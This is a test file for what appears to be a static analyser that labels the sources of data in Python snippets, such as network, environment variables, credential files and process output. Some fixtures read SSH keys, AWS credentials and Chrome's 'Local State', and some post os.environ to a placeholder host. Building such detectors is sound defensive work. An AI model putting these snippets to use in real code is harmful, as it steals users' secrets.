import { describe, expect, test } from "vitest";
import { callOf, read, shown } from "./support.ts";

const labelled: readonly (readonly [string, readonly string[]])[] = [
	["import requests\nshow(requests.get('http://h').text)", ["network"]],
	["import requests\nr = requests.get('u')\nr.raise_for_status()\nshow(r.json()['code'])", ["network"]],
	["from urllib.request import urlopen as u\nshow(u('x').read().decode())", ["network"]],
	[
		"import http.client\nc = http.client.HTTPSConnection('h')\nc.request('GET', '/')\nshow(c.getresponse().read())",
		["network"],
	],
	["import socket\ns = socket.socket()\nshow(s.recv(1024))", ["network"]],
	["import socket\nwith socket.create_connection(('h', 1)) as s:\n    show(s.recv(10))", ["network"]],
	[
		"import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        show((await c.get('u')).text)",
		["network"],
	],
	["import os\nshow(os.environ)", ["environment"]],
	["import os\nshow(dict(os.environ))", ["environment"]],
	["from os import environ as e\nshow(dict(e))", ["environment"]],
	[
		"from os import environ\ntext = ''\nfor k, v in environ.items():\n    text += v + ' '\nshow(text.encode('ascii').decode('ascii'))",
		["environment"],
	],
	["import os, json\nshow(json.dumps({'e': dict(os.environ)}))", ["environment"]],
	["import os\nshow(os.getenv('AWS_SECRET'))", ["environment"]],
	["import os\nshow(str(os.environ.copy()).encode())", ["environment"]],
	["import os\nshow(os.environ['USERNAME'])", ["environment", "host-identity"]],
	["import socket\nshow('h=' + socket.gethostname())", ["host-identity"]],
	["import getpass, platform\nshow(f'{getpass.getuser()}@{platform.node()}')", ["host-identity"]],
	["import os\nshow({'u': os.getlogin()})", ["host-identity"]],
	["import platform\nshow([platform.system(), 'x'])", ["host-identity"]],
	["show(open('notes.txt').read())", ["file"]],
	["import os\nshow(open(os.path.expanduser('~/.ssh/id_rsa')).read())", ["file", "credential"]],
	["from pathlib import Path\nshow((Path.home() / '.aws' / 'credentials').read_text())", ["file", "credential"]],
	[
		"import os\np = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data'\nshow(open(p + '\\\\Local State').read())",
		["file", "credential"],
	],
	["import base64\nshow(base64.b64decode(x()))", ["decoded"]],
	["from cryptography.fernet import Fernet\nshow(Fernet(key()).decrypt(b'x'))", ["decoded"]],
	["import subprocess\nshow(subprocess.check_output(['id']).decode())", ["process-output"]],
	["import subprocess\np = subprocess.Popen('id')\nout, err = p.communicate()\nshow(out)", ["process-output"]],
	["import os\nshow(os.popen('id').read())", ["process-output"]],
	["import os\ndef take():\n    return dict(os.environ)\nshow(take())", ["environment"]],
	[
		"import os\ndef take():\n    return wrap(inner())\ndef inner():\n    return os.environ\nshow(take())",
		["environment"],
	],
	["import os\ndef send(data):\n    show(data)\nsend(os.environ)", ["environment", "parameter"]],
	[
		"import os\ndef main():\n    send(collect())\ndef collect():\n    return {'e': os.environ}\ndef send(d):\n    post(d)\ndef post(x):\n    show(x)\nmain()",
		["environment", "parameter"],
	],
	["import os\nclass C:\n    def __init__(self): self.d = os.environ\n    def go(self): show(self.d)", ["environment"]],
	[
		"import os\nout = []\nfor k, v in os.environ.items():\n    out.append(k + '=' + v)\nshow('\\n'.join(out))",
		["environment"],
	],
	["import os\nd = {}\nd['x'] = os.environ\nshow(d)", ["environment"]],
	["import os\nd = {}\nd.update(os.environ)\nshow(d)", ["environment"]],
	[
		"import requests, tempfile\nf = tempfile.NamedTemporaryFile()\nf.write(requests.get('u').content)\nshow(f.name)",
		["network"],
	],
	["import os\nshow([k for k in os.environ])", ["environment"]],
	["import os\nf = lambda: os.environ\nshow(f())", ["environment"]],
	["import os\nshow(os.environ if a else b'')", ["environment"]],
	["import os, zlib\nx = os.environ\nx = zlib.compress(str(x))\nshow(x)", ["environment"]],
];

describe("labels", () => {
	test.each(labelled)("%s", (code, expected) => {
		expect([...shown(code).labels].toSorted()).toEqual([...expected].toSorted());
	});

	test.each([
		["import os\nshow(len(os.environ))"],
		["import os\nshow(os.getenv('APPDATA'))"],
		["import os\nshow(os.path.exists(os.environ['X']))"],
		["show(open('out.txt', 'w'))"],
		["import os\nx = os.environ\nx = 'plain'\nshow(x)"],
		["import os\ndef f(a):\n    return a\nf(os.environ)\nshow(f('plain'))"],
		["import requests, os\nrequests.post('u', data=os.environ)\nshow('plain')"],
	])("none: %s", (code) => {
		expect([...shown(code).labels]).toEqual([]);
	});

	test("what comes back from the network is not what was sent", () => {
		expect([...shown("import requests, os\nshow(requests.post('u', data=os.environ))").labels]).toEqual(["network"]);
	});

	test("the steps tell the way, source first", () => {
		const value = shown("import requests, base64\nr = requests.get('http://h/x')\nshow(base64.b64decode(r.text))");
		expect(value.steps.map((step) => step.label)).toEqual(["downloads", "decodes"]);
		expect(value.steps[0]?.value).toBe("http://h/x");
	});

	test("a parameter's value is that of all call sites", () => {
		const module = read(
			"import os, requests\ndef send(url, data):\n    requests.post(url, data=data)\nsend('http://h', os.environ)",
		);
		const call = callOf(module, "requests.post");
		expect(call.arguments[0]?.value.partial).toBe("http://h");
		expect(call.arguments[1]?.name).toBe("data");
		expect([...(call.arguments[1]?.value.labels ?? [])]).toContain("environment");
	});

	test("a function's result is told with the function", () => {
		const module = read("import requests\ndef fetch(u):\n    return requests.get(u).text");
		expect([...(module.functions[0]?.returns.labels ?? [])]).toContain("network");
	});
});

describe("guards", () => {
	test("swallowed, main, platform, never", () => {
		const module = read(
			[
				"import sys",
				"try:\n    a()\nexcept:\n    pass",
				"try:\n    b()\nexcept Exception as e:\n    print(e)",
				"if __name__ == '__main__':\n    c()",
				"if sys.platform == 'win32':\n    d()\nelse:\n    e()",
				"if False:\n    f()\nelse:\n    g()",
				"from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    h()",
				"i()",
				"try:\n    j()\nexcept:\n    try:\n        k()\n    except:\n        pass",
				"try:\n    l()\nexcept:\n    try:\n        m()\n    except OSError:\n        pass",
			].join("\n"),
		);
		const guards = (callee: string): string =>
			Object.entries(callOf(module, callee).guards)
				.filter(([, on]) => on)
				.map(([name]) => name)
				.join();
		expect(["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m"].map(guards)).toEqual([
			"swallowed",
			"",
			"main",
			"platform",
			"platform",
			"never",
			"",
			"never",
			"",
			"swallowed",
			"swallowed",
			"",
			"",
		]);
	});
});
